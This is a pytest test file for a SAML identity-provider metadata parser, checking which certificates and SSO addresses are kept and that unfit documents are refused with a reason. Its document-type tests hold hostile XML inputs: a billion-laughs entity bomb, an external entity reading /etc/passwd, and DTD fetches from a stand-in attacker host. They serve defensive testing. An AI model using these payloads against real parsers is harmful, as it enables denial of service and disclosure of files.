from __future__ import annotations

import base64
import hashlib
import time
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ops_console.access.sso.saml_metadata import SamlMetadata, parse
from ops_console.access.sso.unfit import Unfit
from tests.fakes.identity_provider import certificate, key_descriptor, saml_metadata

NOW = datetime(2026, 3, 18, 9, 30, tzinfo=UTC)
BINDING = "urn:oasis:names:tc:SAML:2.0:bindings"


def read(document: str | bytes) -> SamlMetadata:
    return parse(document.encode() if isinstance(document, str) else document, now=NOW)


def test_what_signing_in_needs_is_kept() -> None:
    der = certificate()
    kept = read(saml_metadata()).stored()
    (shown,) = kept.pop("certificates")
    assert base64.b64decode(shown["der"]) == der
    assert shown["fingerprint"] == hashlib.sha256(der).hexdigest()
    assert shown["not_before"] < shown["not_after"]
    assert kept == {
        "entity_id": "https://idp.customer.example/saml",
        "redirect_url": "https://idp.customer.example/sso",
        "post_url": "https://idp.customer.example/sso/post",
        "valid_until": None,
    }


def test_certificates_without_a_use_count_and_those_for_encryption_do_not() -> None:
    rsa, ec = certificate(), certificate("ec")
    keys = key_descriptor(rsa, None) + key_descriptor(rsa) + key_descriptor(ec) + key_descriptor(b"x", "encryption")
    assert [found.der for found in read(saml_metadata(keys=keys)).certificates] == [rsa, ec]


def test_a_certificate_whose_time_is_over_is_taken_and_its_time_told() -> None:
    (found,) = read(saml_metadata(keys=key_descriptor(certificate(ended=True)))).certificates
    assert found.not_after < datetime.now(UTC)


def test_the_first_address_of_a_binding_counts() -> None:
    one = f'<md:SingleSignOnService Binding="{BINDING}:HTTP-POST" Location=" https://one.example/ "/>'
    other = f'<md:SingleSignOnService Binding="{BINDING}:SOAP" Location="https://soap.example/"/>'
    found = read(saml_metadata(services=other + one + one.replace("one", "two")))
    assert (found.redirect_url, found.post_url) == ("", "https://one.example/")


def test_one_provider_in_a_collection_is_found() -> None:
    inner = saml_metadata().partition("?>")[2]
    assert read(f'<c xmlns="urn:x">{inner}</c>').entity_id == "https://idp.customer.example/saml"


def test_until_when_it_is_valid_is_kept() -> None:
    for text in ("2026-04-01T00:00:00Z", "2026-04-01T00:00:00", "2026-04-01T02:00:00+02:00"):
        kept = read(saml_metadata(attributes=f' validUntil="{text}"')).stored()
        assert kept["valid_until"] == "2026-04-01T00:00:00.000Z"


@pytest.mark.parametrize(
    ("document", "why"),
    [
        ("", "not XML"),
        ("{}", "not XML"),
        ("<a>", "not XML"),
        (
            saml_metadata().replace("<md:IDPSSODescriptor ", '<md:IDPSSODescriptor WantAuthnRequestsSigned="true" '),
            "signed",
        ),
        ("<html><body/></html>", "no identity provider"),
        (saml_metadata().replace("SAML:2.0:protocol", "SAML:1.1:protocol"), "no identity provider"),
        (saml_metadata().replace("IDPSSODescriptor", "SPSSODescriptor"), "no identity provider"),
        ("<c>" + saml_metadata().partition("?>")[2] * 2 + "</c>", "several"),
        (saml_metadata(entity_id=""), "entityID"),
        (saml_metadata(entity_id="x" * 1025), "entityID"),
        (saml_metadata(entity_id="a&#10;b&#x85;"), "entityID"),
        (saml_metadata(services="<md:SingleSignOnService/>"), "SingleSignOnService"),
        (saml_metadata(services=f'<md:SingleSignOnService Binding="{BINDING}:HTTP-POST"/>'), "SingleSignOnService"),
        (saml_metadata(keys=""), "no certificate"),
        (saml_metadata(keys=key_descriptor(certificate(), "encryption")), "no certificate"),
        (saml_metadata(keys=key_descriptor(b"no certificate")), "no X.509"),
        (saml_metadata(keys=key_descriptor(b"x").replace("eA==", "ä=!")), "no X.509"),
        (saml_metadata(keys=key_descriptor(b"")), "no X.509"),
        (saml_metadata(keys=key_descriptor(certificate()[:-9])), "no X.509"),
        (saml_metadata(keys=key_descriptor(certificate("rsa-1024"))), "2048"),
        (saml_metadata(keys=key_descriptor(certificate("ed25519"))), "neither RSA"),
        (saml_metadata(keys="".join(key_descriptor(bytes([n])) for n in range(11))), "more than 10"),
        (saml_metadata(attributes=' validUntil="2026-03-18T09:30:00Z"'), "time is over"),
        (saml_metadata(attributes=' validUntil="soon"'), "no time"),
        (saml_metadata(attributes=' validUntil="2026-02-31T00:00:00Z"'), "no time"),
    ],
)
def test_what_is_not_fit_is_refused_with_the_reason(document: str, why: str) -> None:
    with pytest.raises(Unfit, match=why):
        read(document)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION_LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "{"ha" * 10}">{LAUGHS}]>'


@pytest.mark.parametrize(
    "before",
    [
        BILLION_LAUGHS,
        '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>',
        '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
        '<!DOCTYPE x PUBLIC "-//X//EN" "file:///etc/passwd">',
        "<!DOCTYPE x>",
    ],
)
def test_a_document_type_is_refused_before_anything_is_made_of_it(before: str) -> None:
    started = time.process_time()
    for entity in ("l9", "file"):
        with pytest.raises(Unfit, match="document type"):
            read(saml_metadata(before=before, entity_id=f"&{entity};"))
    assert time.process_time() - started < 1


@pytest.mark.parametrize("document", ["<a>" * 170_000, "<a>" * 60_000 + "</a>" * 60_000, "<a " + "b='' " * 80_000])
def test_deep_and_wide_documents_do_no_harm(document: str) -> None:
    started = time.process_time()
    with pytest.raises(Unfit):
        read(document)
    assert time.process_time() - started < 5


@pytest.mark.parametrize("encoding", ["utf-16", "x-unknown", "utf-7", "cp037", "iso-2022-jp"])
def test_an_encoding_is_read_or_refused(encoding: str) -> None:
    with pytest.raises(Unfit):
        read(f'<?xml version="1.0" encoding="{encoding}"?><a/>')


@given(st.binary(max_size=300))
def test_whatever_it_is_it_is_read_or_refused(document: bytes) -> None:
    with pytest.raises(Unfit):
        read(document)


@given(st.text(max_size=100))
def test_no_entity_id_breaks_anything(entity_id: str) -> None:
    try:
        found = read(saml_metadata(entity_id=entity_id).encode(errors="replace"))
    except Unfit:
        return
    assert found.entity_id.isprintable()
